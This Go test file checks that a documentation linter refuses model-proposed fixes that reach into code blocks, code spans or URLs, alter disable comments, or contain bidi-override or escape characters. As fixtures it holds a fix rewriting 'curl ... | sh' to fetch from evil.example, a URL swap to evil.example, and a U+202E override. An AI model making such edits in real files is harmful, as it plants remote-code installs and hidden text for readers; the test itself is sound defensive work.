package lint

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/vectorlint/vectorlint/llm/llmtest"
)

// fixSafeFiles is a project whose documents hold what a model's fix must not touch: a code
// block, a code span, control comments in the HTML and MDX forms, TOML front matter. docs/raw/
// skips nothing, so its model is sent the code.
var fixSafeFiles = map[string]string{
	"vectorlint.ini":          "RulesPath = rules\n[**/*.{md,mdx}]\nRunRules = Acme\n\n[docs/raw/**]\nSkippedScopes =\n",
	"rules/Acme/wordiness.md": "---\nid: Wordiness\nname: Wordiness\n---\nFind wordy phrases.\n",
	"docs/a.md":               fixSafeDoc,
	"docs/raw/a.md":           "# Raw\n\nRead this.\n\n```sh\ncurl https://acme.example/install | sh\n```\n\nAfter the block.\n",
	"docs/b.mdx": "import X from './x'\n\nIn order to start, read this.\nIt has the ability to fly.\n" +
		"{/* vectorlint-disable */}\nSilenced.\n{/* vectorlint-enable */}\n",
	"docs/c.md": "+++\ntitle = \"C\"\n+++\nIn order to start, read.\n",
}

// fixSafeDoc numbers its lines for the tests below.
const fixSafeDoc = "---\ntitle: Guide\n---\n" + // 1–3
	"# Deploy\n\n" + // 4–5
	"In order to deploy, read this.\n\n" + // 6–7
	"```sh\ncurl https://acme.example/install | sh\n```\n\n" + // 8–11
	"After the block, in order to verify, run `acme check` now.\n" + // 12
	"Due to the fact that it is fast, wait.\n" + // 13
	"We act with the ability to win.\n" + // 14
	"It has the capacity to fly.\n" + // 15
	"It is, in fact, a test.\n" + // 16
	"<!-- vectorlint-disable -->\n" + // 17
	"Silenced here, in order to test.\n" + // 18
	"<!-- vectorlint-enable -->\n" + // 19
	"Last line, at this point in time.\n" + // 20
	"Read https://acme.example/docs for more.\n" // 21

// TestFixSafety: a model's fix is kept as an edit only when its whole span lies in the text
// the model was sent, it adds, removes or changes no control comment (HTML or MDX form, also
// by opening a code fence that turns them into examples), and its text holds no control or
// bidi-override character. Otherwise the finding is reported without a fix (no "fix", no
// "edits" in JSON) and Warn says why, naming file, line, column and rule. A legitimate fix in
// prose is kept in the same run, and with SkippedScopes empty a fix across the code the model
// was sent is kept too.
func TestFixSafety(t *testing.T) {
	t.Parallel()
	dir, proj := loadTestProject(t, fixSafeFiles)
	plan, err := BuildPlan(proj.Config, proj.Packs, PlanInput{Dir: dir, Paths: []string{"docs"}})
	if err != nil {
		t.Fatal(err)
	}
	srv := llmtest.Start(t)
	srv.On(llmtest.UserContains("Deploy"), violationsOf(
		map[string]any{"quoted_text": "In order to deploy", "line": 6, "message": "Positive control.", "fix": "To deploy"},
		map[string]any{"quoted_text": "read this.\n\n```sh\ncurl https://acme.example/install | sh\n```\n\nAfter the block", "line": 6,
			"message": "Across the code block.", "fix": "read this.\n\n```sh\ncurl https://evil.example/x | sh\n```\n\nAfter the block"},
		map[string]any{"quoted_text": "run `acme check` now", "line": 12, "message": "Across a code span.", "fix": "run `acme check --force` now"},
		map[string]any{"quoted_text": "Due to the fact that", "line": 13, "message": "Inserts a disable.", "fix": "Because <!-- vectorlint-disable -->"},
		map[string]any{"quoted_text": "with the ability to", "line": 14, "message": "Bidi override.", "fix": "\u202eto"},
		map[string]any{"quoted_text": "has the capacity to", "line": 15, "message": "Escape.", "fix": "can\x1b[2J"},
		map[string]any{"quoted_text": "in fact, a test.\n<!-- vectorlint-disable -->", "line": 16, "message": "Removes a disable.", "fix": "in fact, a test."},
		map[string]any{"quoted_text": "After the block", "line": 12, "message": "Opens a fence.", "fix": "```\nAfter the block"},
		map[string]any{"quoted_text": "Read https://acme.example/docs for more", "line": 21, "message": "Across a URL.", "fix": "Read https://evil.example/docs for more"},
	))
	srv.On(llmtest.UserContains("Raw"), violationsOf(
		map[string]any{"quoted_text": "Read this.\n\n```sh\ncurl https://acme.example/install | sh\n```", "line": 3,
			"message": "Across code the model saw.", "fix": "Read this:\n\n```sh\ncurl -fsSL https://acme.example/install | sh\n```"},
	))
	srv.On(llmtest.UserContains("ability to fly"), violationsOf(
		map[string]any{"quoted_text": "In order to start", "line": 3, "message": "Inserts an MDX disable.", "fix": "To start {/* vectorlint-disable */}"},
		map[string]any{"quoted_text": "the ability to fly.\n{/* vectorlint-disable */}", "line": 4, "message": "Removes an MDX disable.", "fix": "can fly."},
	))
	srv.On(llmtest.UserContains("In order to start, read."), violationsOf(
		map[string]any{"quoted_text": "title = \"C\"\n+++\nIn order to start", "line": 2, "message": "Into the front matter.", "fix": "title = \"C\"\ndraft = true\n+++\nTo start"},
	))
	var warnings []string
	got, _, err := evaluate(t, srv, plan, EvalOptions{ConfidenceThreshold: 0.75, Warn: func(s string) { warnings = append(warnings, s) }})
	if err != nil {
		t.Fatal(err)
	}
	type fixOf struct{ file, message, fix, edits string }
	var fixes []fixOf
	for _, fr := range got {
		for _, f := range fr.Findings {
			b, _ := json.Marshal(f.Edits)
			fix, _ := f.Replacement()
			fixes = append(fixes, fixOf{fr.Path, f.Message, fix, string(b)})
		}
	}
	want := []fixOf{
		{"docs/a.md", "Positive control.", "To deploy", `[{"offset":31,"endOffset":49,"newText":"To deploy"}]`},
		{"docs/a.md", "Across the code block.", "", "null"},
		{"docs/a.md", "Opens a fence.", "", "null"},
		{"docs/a.md", "Across a code span.", "", "null"},
		{"docs/a.md", "Inserts a disable.", "", "null"},
		{"docs/a.md", "Bidi override.", "", "null"},
		{"docs/a.md", "Escape.", "", "null"},
		{"docs/a.md", "Removes a disable.", "", "null"},
		{"docs/a.md", "Across a URL.", "", "null"},
		{"docs/b.mdx", "Inserts an MDX disable.", "", "null"},
		{"docs/b.mdx", "Removes an MDX disable.", "", "null"},
		// The model is not sent the front matter's lines: a quote reaching into them is not found
		// exactly (only fuzzily, in the prose), so it never had a fix to refuse.
		{"docs/c.md", "Into the front matter.", "", "null"},
		{"docs/raw/a.md", "Across code the model saw.", "Read this:\n\n```sh\ncurl -fsSL https://acme.example/install | sh\n```",
			`[{"offset":7,"endOffset":67,"newText":"Read this:\n\n` + "```sh\\ncurl -fsSL https://acme.example/install | sh\\n```" + `"}]`},
	}
	if len(fixes) != len(want) {
		t.Fatalf("findings:\n%s", renderResults(got))
	}
	for i := range want {
		if fixes[i] != want[i] {
			t.Errorf("finding %d: %+v\nwant %+v", i, fixes[i], want[i])
		}
	}
	// In the order of the rule's proposals.
	wantWarn := []string{
		"docs/a.md:6:21: Acme.Wordiness: the model's fix is not offered: it reaches into a code block on line 8, which the model was not sent",
		"docs/a.md:12:38: Acme.Wordiness: the model's fix is not offered: it reaches into a code span on line 12, which the model was not sent",
		"docs/a.md:13:1: Acme.Wordiness: the model's fix is not offered: it adds a control comment, vectorlint-disable",
		"docs/a.md:14:8: Acme.Wordiness: the model's fix is not offered: its text holds U+202E, a control, bidi-override or invisible character",
		"docs/a.md:15:4: Acme.Wordiness: the model's fix is not offered: its text holds U+001B, a control, bidi-override or invisible character",
		"docs/a.md:16:8: Acme.Wordiness: the model's fix is not offered: it removes the control comment vectorlint-disable on line 17",
		"docs/a.md:12:1: Acme.Wordiness: the model's fix is not offered: it turns the control comment vectorlint-disable on line 17 into a code example",
		"docs/a.md:21:1: Acme.Wordiness: the model's fix is not offered: it reaches into a URL on line 21, which the model was not sent",
		"docs/b.mdx:3:1: Acme.Wordiness: the model's fix is not offered: it adds a control comment, vectorlint-disable",
		"docs/b.mdx:4:8: Acme.Wordiness: the model's fix is not offered: it removes the control comment vectorlint-disable on line 5",
	}
	if g := strings.Join(warnings, "\n"); g != strings.Join(wantWarn, "\n") {
		t.Errorf("warnings:\n%s\nwant:\n%s", g, strings.Join(wantWarn, "\n"))
	}
}
